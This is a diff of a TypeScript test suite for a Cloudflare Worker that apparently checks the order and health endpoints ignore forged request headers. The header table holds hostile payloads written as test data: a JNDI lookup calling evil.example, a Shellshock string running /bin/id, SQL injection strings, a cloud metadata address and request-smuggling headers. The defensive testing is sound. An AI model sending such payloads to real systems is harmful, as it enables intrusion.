@@ -1,18 +1,18 @@
 import { env } from "cloudflare:workers";
-import { FORM, post, type Case, type Theme } from "../support/case.ts";
-import { GIVEN } from "../support/given.ts";
+import { FORM, post, type Case, type Cases } from "../support/case.ts";
+import { CANARIES } from "../support/canaries.ts";
 import { ROUTES } from "../support/routes.ts";
-import { good } from "../support/signing.ts";
+import { validForm } from "../support/signing.ts";
 
-/** Headers that nothing here may go by. The request is granted as it is without them. */
-const FORGED: Readonly<Record<string, Readonly<Record<string, string>>>> = {
+/** Headers that must not change an answer. */
+const FORGED_HEADERS: Readonly<Record<string, Readonly<Record<string, string>>>> = {
   "another host": { host: "evil.example" },
-  "a host with a port of words": { host: "gateway.test:x" },
-  "a host that is an address inside": { host: "169.254.169.254" },
+  "a host with a port that isn't a number": { host: "gateway.test:x" },
+  "a host that is an internal address": { host: "169.254.169.254" },
   "another forwarded host": { "x-forwarded-host": "evil.example", "x-host": "evil.example" },
   "a chain of addresses": { "x-forwarded-for": "10.0.0.1, 127.0.0.1, ::1" },
   "an address that is SQL": { "x-forwarded-for": "' or 1=1--" },
-  "Cloudflare's own headers": {
+  "headers of Cloudflare": {
     "cf-ray": "x",
     "cf-visitor": '{"scheme":"http"}',
     "cf-ipcountry": "T1",
@@ -26,79 +26,82 @@ const FORGED: Readonly<Record<string, Readonly<Record<string, string>>>> = {
   },
   "another path": { "x-original-url": "/admin/apps", "x-rewrite-url": "/admin/apps" },
   "another method": { "x-http-method-override": "DELETE" },
-  "a request id of its own": { "x-request-id": "forged" },
-  "a trace of its own": { traceparent: "00-forged", "x-b3-traceid": "forged" },
+  "a request id": { "x-request-id": "forged" },
+  "a trace id": { traceparent: "00-forged", "x-b3-traceid": "forged" },
   "an origin": { origin: "https://evil.example", referer: "https://evil.example/" },
   "a null origin": { origin: "null" },
-  cookies: { cookie: `session=${GIVEN.token}; __proto__=1` },
-  "somebody's token": { authorization: `Bearer ${GIVEN.token}` },
+  cookies: { cookie: `session=${CANARIES.token}; __proto__=1` },
+  "an unknown token": { authorization: `Bearer ${CANARIES.token}` },
   "the operator's token": { authorization: `Bearer ${env.ADMIN_TOKEN}` },
   "a range": { range: "bytes=0-0,1-1" },
-  conditions: { "if-none-match": "*", "if-match": '"x"', "if-modified-since": "x" },
+  "conditional headers": { "if-none-match": "*", "if-match": '"x"', "if-modified-since": "x" },
   "an expectation": { expect: "100-continue" },
   "an upgrade": { upgrade: "websocket", connection: "Upgrade" },
-  "what HTTP/2 begins with": { "http2-settings": "AAMAAABkAAQAAP__" },
-  "no wish but for XML": {
+  "the upgrade to HTTP/2": { "http2-settings": "AAMAAABkAAQAAP__" },
+  "an Accept header of XML only": {
     accept: "text/xml",
     "accept-charset": "utf-7",
     "accept-encoding": "*;q=0",
   },
-  "a language of SQL": { "accept-language": "' or 1=1--" },
-  "a lookup": { "user-agent": "${jndi:ldap://evil.example/a}" },
-  "a shell's words": { "user-agent": "() { :; }; /bin/id" },
+  "SQL as the language": { "accept-language": "' or 1=1--" },
+  "a JNDI lookup": { "user-agent": "${jndi:ldap://evil.example/a}" },
+  "shell syntax": { "user-agent": "() { :; }; /bin/id" },
   "a user agent of thirty thousand letters": { "user-agent": "x".repeat(30_000) },
-  "a header beyond ASCII": { "x-name": "中文\u202e" },
-  prototypes: { __proto__: "x", constructor: "x" },
-  "a length that is a lie": { "content-length": "5" },
-  "a way of sending that is a lie": { "transfer-encoding": "chunked" },
-  "two ways of sending": { "transfer-encoding": "chunked, identity", "content-length": "0" },
+  "a header outside ASCII": { "x-name": "中文\u202e" },
+  "names of prototype properties": { __proto__: "x", constructor: "x" },
+  "a wrong Content-Length": { "content-length": "5" },
+  "a wrong Transfer-Encoding": { "transfer-encoding": "chunked" },
+  "both Transfer-Encoding and Content-Length": {
+    "transfer-encoding": "chunked, identity",
+    "content-length": "0",
+  },
 };
 
-const headed = (name: string, headers: Readonly<Record<string, string>>): readonly Case[] => [
+const casesWith = (name: string, headers: Readonly<Record<string, string>>): readonly Case[] => [
   {
-    name: `granted: ${name}`,
+    name: `accepted: ${name}`,
     route: "POST /order",
     answer: "app 0",
-    request: (scene) => ({
+    request: (target) => ({
       path: "/order",
-      init: post(good(ROUTES["POST /order"], scene).toString(), FORM, headers),
+      init: post(validForm(ROUTES["POST /order"], target).toString(), FORM, headers),
     }),
   },
   {
-    name: `refused all the same: ${name}`,
+    name: `refused with an invalid sign: ${name}`,
     route: "POST /order",
     answer: "app 501",
     request: () => ({
       path: "/order",
-      init: post(`appId=1&order_id=1&sign=${GIVEN.sign}`, FORM, headers),
+      init: post(`appId=1&order_id=1&sign=${CANARIES.sign}`, FORM, headers),
     }),
   },
   {
-    name: `as well as ever: ${name}`,
+    name: `healthy: ${name}`,
     route: "GET /health",
     answer: "health",
-    // It asks whether the orders' objects answer.
-    may: "calls",
+    // The health check calls an order's object.
+    allows: "calls",
     request: () => ({ path: "/health?__proto__=1", init: { headers } }),
   },
 ];
 
-export const headers: Theme = [
-  ...Object.entries(FORGED).flatMap(([name, given]) => headed(name, given)),
+export const headers: Cases = [
+  ...Object.entries(FORGED_HEADERS).flatMap(([name, forged]) => casesWith(name, forged)),
   {
-    name: "HEAD, which is GET without a body",
+    name: "HEAD instead of GET",
     route: "GET /health",
     answer: "health",
-    // It asks whether the orders' objects answer.
-    may: "calls",
+    // The health check calls an order's object.
+    allows: "calls",
     request: () => ({ path: "/health", init: { method: "HEAD" } }),
   },
   {
     name: "a query of sixty thousand letters",
     route: "GET /health",
     answer: "health",
-    // It asks whether the orders' objects answer.
-    may: "calls",
+    // The health check calls an order's object.
+    allows: "calls",
     request: () => ({ path: `/health?${"a=1&".repeat(15_000)}`, init: {} }),
   },
 ];
